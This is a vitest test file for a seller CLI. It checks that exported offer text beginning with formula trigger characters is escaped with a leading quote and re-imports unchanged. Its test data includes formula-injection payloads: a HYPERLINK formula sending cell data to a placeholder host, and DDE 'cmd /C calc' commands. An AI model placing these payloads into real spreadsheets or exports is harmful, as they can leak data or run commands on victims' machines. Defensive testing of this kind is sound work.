// Offers whose text starts like a spreadsheet formula, through the real binary against the
// sandbox: `offers export` writes them with one leading `'` (the bytes), and importing that file
// back changes nothing: duplicates of the queued offers, then, once pushed, unchanged offers.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeColumnHeader } from '../../electron/core/imports/offers';
import { formatDelimited, delimitedRecords } from '../../electron/core/imports/text/delimited';
import { demoProducts } from '../../electron/sandbox/seed';
import { jsonOf, runSellerDesk, useCliWorld } from './harness';

const product = demoProducts().find((p) => p.id === 10)!; // Valorant Accounts
const rank = product.product_fields.find((f) => f.title === 'Rank')!.field_values[0]!.value;

/** Every trigger character (= + - @ tab CR) at the start, then text that must stay as it is. */
const texts = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'tis the season",
  '-5',
  '-0.5',
];
const WRITE_TEXT_COLUMNS = [
  'outer_name',
  'internal_name',
  'description',
  'comment_for_reviewer',
] as const;
/** The import reads the API's names; the export writes the seller's words. */
const TEXT_COLUMNS = [...WRITE_TEXT_COLUMNS, 'Account title'];
const EXPORTED_TEXT_COLUMNS = [
  ...WRITE_TEXT_COLUMNS.map((c) => writeColumnHeader(c)),
  'Account title',
];
const header = [
  'price_per_step',
  'amount',
  'min_purchase_amount',
  ...TEXT_COLUMNS,
  'Rank',
  'Region',
  'Platform',
  'Account level',
];

const world = useCliWorld('sd-cli-formulas-');

const importFile = (file: string) =>
  runSellerDesk(
    ['offers', 'import', file, '--product', '10', '--delivery-time', '3600000', '--json'],
    world.target,
  );

async function exportToFile(name: string): Promise<string> {
  const file = join(world.dir.path, name);
  const run = await runSellerDesk(['offers', 'export', file, '--product', '10'], world.target);
  expect(run.code, run.stderr).toBe(0);
  return readFileSync(file, 'utf8');
}

/** The text columns of an exported file's rows, as raw cells, by outer name's offer. */
function rawTextCells(csv: string): string[][] {
  const [head, ...rows] = [...delimitedRecords(csv, ',')];
  const indexes = EXPORTED_TEXT_COLUMNS.map((name) => head!.cells.indexOf(name));
  expect(indexes.every((i) => i >= 0)).toBe(true);
  return rows.map((row) => indexes.map((i) => row.cells[i]!));
}

const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
const sorted = (rows: string[][]) => [...rows].sort((a, b) => a[0]!.localeCompare(b[0]!));

describe(
  'offers export → import through the binary, formula-like text',
  { timeout: 120_000 },
  () => {
    it('guards the cells in the file and imports them back as duplicates, then as unchanged', async () => {
      const source = join(world.dir.path, 'source.csv');
      writeFileSync(
        source,
        formatDelimited(
          [
            header,
            ...texts.map((text, i) => [
              String(10 + i),
              '1',
              '1',
              ...TEXT_COLUMNS.map(() => text),
              rank,
              'EU',
              'PC',
              '20',
            ]),
          ],
          ',',
        ),
      );
      const created = await importFile(source);
      expect(created.code, created.stderr).toBe(0);
      expect(jsonOf<{ result: { created: number } }>(created).result.created).toBe(texts.length);

      const exported = await exportToFile('queued.csv');
      expect(sorted(rawTextCells(exported))).toEqual(
        sorted(texts.map((text) => TEXT_COLUMNS.map(() => guarded(text)))),
      );
      // The bytes a spreadsheet opens.
      expect(exported).toContain(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")"`);
      expect(exported).toContain(`,'+cmd|' /C calc'!A0,`);
      expect(exported).toContain(`,'-2+3+cmd|' /C calc'!A0,`);
      expect(exported).toContain(`,'@SUM(1+9)*cmd|' /C calc'!A0,`);
      expect(exported).toContain(`,'\t=1+1,`);
      expect(exported).toContain(`,"'\r=1+1",`);
      expect(exported).toContain(`,'tis the season,`);
      expect(exported).toContain(`,'-5,`);
      expect(exported).toContain(`,'-0.5,`);

      const again = await importFile(join(world.dir.path, 'queued.csv'));
      expect(again.code, again.stderr).toBe(0);
      expect(jsonOf<{ result: Record<string, unknown> }>(again).result).toMatchObject({
        created: 0,
        edited: 0,
        duplicates: texts.length,
      });

      const push = await runSellerDesk(['push', '--json'], world.target);
      expect(push.code, push.stderr).toBe(0);
      const onServer = world.sandbox.control.offers(world.sandbox.sellers[2]!.id);
      expect(onServer.map((o) => o.outer_name).sort()).toEqual([...texts].sort());

      const pushed = await exportToFile('pushed.csv');
      expect(sorted(rawTextCells(pushed))).toEqual(sorted(rawTextCells(exported)));
      const back = await importFile(join(world.dir.path, 'pushed.csv'));
      expect(back.code, back.stderr).toBe(0);
      expect(jsonOf<{ result: Record<string, unknown> }>(back).result).toMatchObject({
        created: 0,
        edited: 0,
        unchanged: texts.length,
      });
    });
  },
);
